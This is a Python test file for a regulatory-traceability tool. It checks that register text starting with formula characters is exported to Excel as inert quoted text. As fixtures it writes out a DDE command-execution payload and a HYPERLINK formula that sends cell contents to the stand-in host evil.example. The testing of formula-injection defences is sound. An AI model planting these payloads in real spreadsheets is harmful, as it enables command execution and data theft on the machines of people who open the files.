"""Exports never carry live formulas: register text that Excel would run is written as text (issue 16).

A register with the DDE payload `=cmd|' /C calc'!A0`, `=HYPERLINK(…)` and the other formula starters in
names and titles is loaded with the real loader, exported, and the workbook read back with openpyxl: every
such cell is a string cell holding the text exactly, in every sheet where it appears.
"""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

from export_fixtures import AS_OF, EXAMPLE_FOLDER
from openpyxl import Workbook, load_workbook
from regtrace.exports import bundle
from regtrace.exports.xlsx import text_safe_cell
from regtrace.loaders.registers import load_registers

from regtrace.regulation_graph import obligations_under
from regtrace.stores import open_store

DDE = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("https://evil.example/x?d="&A1,"點我 click")'
PAYLOADS = {
    ("csps.csv", "CSP-NIMBUS", "name"): DDE,
    ("csps.csv", "CSP-FTC", "name"): "+1+1",
    ("arrangements.csv", "ARR-CORE", "name"): LINK,
    ("evidence.csv", "EV-0002", "title"): "@SUM(1,2)",
    ("controls.csv", "CTL-GOV-01", "name"): "-2+3",
    ("evidence.csv", "EV-0001", "title"): DDE,
    ("evidence.csv", "EV-0004", "title"): LINK,
    ("audits.csv", "AUD-2026-01", "auditor"): "=1+1",
    ("certifications.csv", "CERT-01", "scope"): "=2+2",
}


def _rewrite(folder: Path) -> None:
    for (file, key, column), text in PAYLOADS.items():
        path = folder / file
        raw = path.read_bytes()
        encoding = "utf-8-sig" if raw.startswith(b"\xef\xbb\xbf") else "utf-8"
        try:
            content = raw.decode(encoding)
        except UnicodeDecodeError:
            encoding = "cp950"
            content = raw.decode(encoding)
        rows = list(csv.DictReader(content.splitlines()))
        header = list(rows[0])
        hits = [r for r in rows if r[header[0]] == key]
        assert hits, f"{file} has no row {key}"
        hits[0][column] = text
        with path.open("w", encoding="utf-8", newline="") as fh:
            writer = csv.DictWriter(fh, header)
            writer.writeheader()
            writer.writerows(rows)


def test_formula_text_in_registers_is_exported_as_text(tmp_path: Path) -> None:
    folder = tmp_path / "insurer"
    shutil.copytree(EXAMPLE_FOLDER, folder)
    _rewrite(folder)
    with open_store(str(tmp_path / "store")) as store:
        load_registers(store, folder, "evil-life", obligations_under(store))
        bundle.export(store, AS_OF, ["xlsx"], tmp_path / "out", "evil-life")
    book = load_workbook(tmp_path / "out" / "traceability-matrix.xlsx")  # not read-only: data_type is kept
    wanted = set(PAYLOADS.values())
    seen: dict[str, set[str]] = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.lstrip("\t").startswith(("=", "+", "-", "@")):
                    assert cell.data_type == "s", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                    assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} has no quote prefix"
                    if cell.value in wanted:
                        seen.setdefault(cell.value, set()).add(ws.title)
    assert not [c for ws in book.worksheets for r in ws.iter_rows() for c in r if c.data_type == "f"]
    # Every payload arrives intact somewhere; the DDE one on the evidence sheet and where CSPs are named.
    assert set(seen) == wanted, f"missing from the export: {wanted - set(seen)}"
    assert len(seen[DDE]) >= 2


def test_numbers_stay_numbers_and_plain_text_has_no_prefix() -> None:
    ws = Workbook(write_only=True).create_sheet("t")
    negative = text_safe_cell(ws, -3)
    assert negative.data_type == "n" and negative.value == -3 and not negative.quotePrefix
    plain = text_safe_cell(ws, "ARR-CORE")
    assert plain.data_type == "s" and not plain.quotePrefix
    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        cell = text_safe_cell(ws, text)
        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", text, True)
